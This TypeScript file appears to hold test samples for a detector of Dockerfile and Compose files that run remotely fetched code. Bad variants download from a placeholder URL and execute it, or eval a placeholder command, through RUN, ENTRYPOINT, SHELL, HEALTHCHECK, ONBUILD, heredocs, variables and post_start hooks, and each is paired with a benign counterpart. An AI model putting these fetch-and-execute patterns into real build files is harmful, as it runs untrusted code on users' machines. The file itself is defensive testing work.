import type { Sample } from './sample.ts';
import { base, evil, inFile, url } from './starting.ts';

function built(name: string, bad: string, good?: string): Sample {
  return inFile(name, 'Dockerfile', base + bad, good === undefined ? undefined : base + good);
}

/** What runs while an image is built, or as a container starts. */
export const containers: readonly Sample[] = [
  built(
    'ADD then RUN',
    `ADD ${url} /x.sh\nRUN sh /x.sh\n`,
    `ADD https://example.org/w.bin /w.bin\nRUN ls -l /w.bin\n`,
  ),
  built(
    'ADD then ENTRYPOINT',
    `ADD ${url} /opt/x\nENTRYPOINT ["/bin/sh", "/opt/x"]\n`,
    `ADD https://example.org/w.bin /opt/w\nCOPY serve.py /opt/serve.py\nENTRYPOINT ["python", "/opt/serve.py", "/opt/w"]\n`,
  ),
  built(
    'ADD into folder',
    `WORKDIR /opt\nADD ${url} .\nRUN chmod +x x && ./x\n`,
    `WORKDIR /opt\nADD https://example.org/vocab.txt .\nRUN head -1 vocab.txt\n`,
  ),
  built(
    'curl then CMD',
    `RUN curl -fsSo /usr/local/bin/tool ${url} && chmod +x /usr/local/bin/tool\nCMD ["tool"]\n`,
    `RUN curl -fsSo /data/weights.bin https://example.org/weights.bin\nCMD ["python", "serve.py", "/data/weights.bin"]\n`,
  ),
  built(
    'wget then python',
    `WORKDIR /app\nRUN wget -q ${url} -O setup_env.py\nRUN python setup_env.py\n`,
    `WORKDIR /app\nRUN wget -q https://example.org/v.json -O vocab.json\nRUN python -m json.tool vocab.json\n`,
  ),
  built('CMD before ADD', `CMD sh /x.sh\nADD ${url} /x.sh\n`),
  built(
    'from another stage',
    `RUN curl -o /tmp/x ${url}\nFROM python:3.12\nCOPY --from=0 /tmp/x /usr/bin/x\nRUN x\n`,
    `RUN curl -o /tmp/x https://example.org/x.json\nFROM python:3.12\nCOPY --from=0 /tmp/x /data/x.json\nRUN ls /data\n`,
  ),
  inFile('named stage', 'Dockerfile', `FROM a AS fetch\nADD ${url} /out/x\nFROM fetch\nRUN sh /out/x\n`),
  built(
    'ENV holds the command',
    `ENV INIT="${evil}"\nRUN eval "$INIT"\n`,
    `ENV MODEL="bert"\nRUN echo "$MODEL"\n`,
  ),
  built(
    'ARG holds the address',
    `ARG SRC=${url}\nADD $SRC /x.sh\nRUN sh /x.sh\n`,
    `ARG SRC=https://example.org/w.bin\nADD $SRC /w.bin\n`,
  ),
  built(
    'SHELL holds the command',
    `SHELL ["/bin/sh", "-c", "${evil}; eval \\"$0\\""]\nRUN true\n`,
    `SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN ls | wc -l\n`,
  ),
  built(
    'SHELL is Python',
    `SHELL ["python3", "-c"]\nRUN import os; os.system("${evil}")\n`,
    `SHELL ["python3", "-c"]\nRUN print(1)\n`,
  ),
  built(
    'ENTRYPOINT and CMD',
    `ENTRYPOINT ["sh", "-c"]\nCMD ["${evil}"]\n`,
    `ENTRYPOINT ["python"]\nCMD ["serve.py"]\n`,
  ),
  built(
    'document written, then run',
    `RUN cat <<'EOF' > /opt/i\n${evil}\nEOF\nRUN sh /opt/i\n`,
    `RUN cat <<'EOF' > /opt/i\nlr: 0.1\nEOF\nRUN cat /opt/i\n`,
  ),
  built(
    'COPY document, then run',
    `COPY <<EOF /opt/notes\n${evil}\nEOF\nCMD ["sh", "/opt/notes"]\n`,
    `COPY <<EOF /opt/notes\nlr: 0.1\nEOF\nCMD ["cat", "/opt/notes"]\n`,
  ),
  built(
    'printf over instructions',
    `RUN printf 'curl %s |' ${url} > /i\nRUN printf ' sh' >> /i\nRUN . /i\n`,
    `RUN printf 'a=%s' 1 > /i\nRUN . /i\n`,
  ),
  built(
    'HEALTHCHECK',
    `ADD ${url} /h\nHEALTHCHECK CMD sh /h\n`,
    `HEALTHCHECK CMD curl -f http://localhost:8080/health\n`,
  ),
  built('ONBUILD', `ONBUILD RUN ${evil}\n`, 'ONBUILD COPY . /app\n'),
  inFile(
    'file of no kind',
    'Dockerfile',
    `${base}COPY notes.txt /n\nRUN sh /n\n`,
    `${base}COPY notes.txt /n\nRUN cat /n\n`,
    { 'notes.txt': `${evil}\n` },
  ),
  inFile(
    'file of no kind in a folder',
    'Dockerfile',
    `${base}COPY . /app\nWORKDIR /app\nCMD ["bash", "docs/notes"]\n`,
    `${base}COPY . /app\nWORKDIR /app\nCMD ["cat", "docs/notes"]\n`,
    { 'docs/notes': `${evil}\n` },
  ),
  built(
    'pip from fetched requirements',
    `ADD ${url} /r.txt\nRUN pip install -r /r.txt\n`,
    `COPY requirements.txt /r.txt\nRUN pip install -r /r.txt\n`,
  ),
  inFile(
    'inline Dockerfile',
    'compose.yaml',
    `services:\n  a:\n    build:\n      context: .\n      dockerfile_inline: |\n        FROM python:3.12\n        RUN ${evil}\n`,
    'services:\n  a:\n    build:\n      context: .\n      dockerfile_inline: |\n        FROM python:3.12\n        RUN pip list\n',
  ),
  inFile(
    'default of a variable',
    'compose.yaml',
    `services:\n  a:\n    image: x\n    command: sh -c "\${INIT:-${evil}}"\n`,
    'services:\n  a:\n    image: x\n    command: python serve.py --port \u0024{PORT:-8080}\n',
  ),
  inFile(
    'doubled dollar',
    'compose.yaml',
    `services:\n  a:\n    image: x\n    command: sh -c "$$(curl ${url})"\n`,
    'services:\n  a:\n    image: x\n    command: sh -c "echo $$HOME"\n',
  ),
  inFile(
    'environment',
    'compose.yaml',
    `services:\n  a:\n    image: x\n    environment:\n      INIT: ${evil}\n    command: sh -c 'eval "$$INIT"'\n`,
    'services:\n  a:\n    image: x\n    environment:\n      MODEL: bert\n    command: sh -c \'echo "$$MODEL"\'\n',
  ),
  inFile(
    'anchor',
    'docker-compose.yml',
    `x-a: &a\n  command: ["sh", "-c", "${evil}"]\nservices:\n  a:\n    <<: *a\n    image: x\n`,
    'x-a: &a\n  restart: always\nservices:\n  a:\n    <<: *a\n    image: x\n',
  ),
  inFile(
    'post_start',
    'compose.yaml',
    `services:\n  a:\n    image: x\n    post_start:\n      - command: sh -c "${evil}"\n`,
    'services:\n  a:\n    image: x\n    post_start:\n      - command: ./warm.sh\n',
  ),
];
